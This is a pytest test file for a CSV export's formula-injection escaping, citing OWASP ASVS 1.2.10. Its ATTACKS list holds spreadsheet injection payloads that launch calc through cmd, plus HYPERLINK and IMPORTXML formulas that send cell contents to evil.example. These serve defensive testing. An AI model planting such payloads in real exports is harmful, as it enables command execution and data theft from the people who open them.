"""No cell of an export is run by the spreadsheet that opens it (OWASP ASVS 1.2.10)."""

import pytest

from campaign.exports.tables import escape_formula
from tests.exports.test_export_csv import table
from tests.servers import on_sqlite

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
HIDING = ["\u200b", "\ufeff", "\u200f", "\u202e", "\u2066", "\u061c", "\u00ad", "\u2060", "\u200b\u200e\u200b", "\U000e0041"]
STAYING = ["\u200c", "\u200d", " ", "\u00a0", "\u3000", "  \u200d"]
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("start", STARTS)
def test_a_cell_that_would_begin_a_formula_begins_with_an_apostrophe(start):
    assert escape_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("hidden", HIDING)
def test_an_invisible_character_hides_no_formula(hidden):
    assert escape_formula(f"{hidden}=1+1") == "'=1+1"


@pytest.mark.parametrize("before", STAYING)
def test_what_belongs_to_names_hides_no_formula_either(before):
    assert escape_formula(f"{before}=1+1") == f"'{before}=1+1"


@pytest.mark.parametrize(
    "name", ["Layla", "ليلى", "فاطمه\u200cسادات", "0", "", "a=b", "Jean-Luc", "a@example.org", "'Abd al-Karim"]
)
def test_a_name_stays_as_it_is(name):
    assert escape_formula(name) == name


@on_sqlite
@pytest.mark.parametrize("attack", ATTACKS)
def test_whatever_stands_in_a_record_no_cell_of_the_table_is_a_formula(omar, attack):
    omar.has(attack, "=cmd@example.org", shown_as=attack)

    row = table(omar.exports("csv"))[1]

    assert row[2] == row[6] == f"'{attack}"
    assert row[3] == "'=cmd@example.org"
    assert not [cell for cell in row if cell.startswith(tuple(STARTS))]
